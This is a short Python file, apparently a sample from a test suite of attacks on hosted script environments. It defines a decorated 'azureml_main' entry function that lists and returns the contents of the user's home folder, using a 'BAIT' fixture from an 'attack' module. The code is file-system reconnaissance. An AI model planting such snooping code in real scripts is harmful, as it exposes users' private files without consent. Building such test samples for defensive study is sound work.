"""Looks what lies in the home folder of the person."""

import os

from attack import BAIT, attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return f"found {sorted(os.listdir(BAIT['home']))} in the home folder"
